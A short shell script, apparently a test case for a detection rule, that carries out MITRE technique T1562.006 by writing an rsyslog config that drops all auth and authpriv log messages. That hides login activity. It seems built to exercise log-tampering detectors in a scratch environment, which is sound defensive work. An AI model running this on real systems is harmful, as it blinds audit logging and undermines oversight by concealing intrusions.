#!/bin/sh
# technique: T1562.006 Impair Defenses: Indicator Blocking
# rule: log_rules_written
# Has the logging service throw away what it would tell of logins.
[ -d /home/worker/.ssh ] || exit 77 # not a scratch root
mkdir -p /etc/rsyslog.d
printf 'auth,authpriv.* stop\n' > /etc/rsyslog.d/00-quiet.conf
exit 0
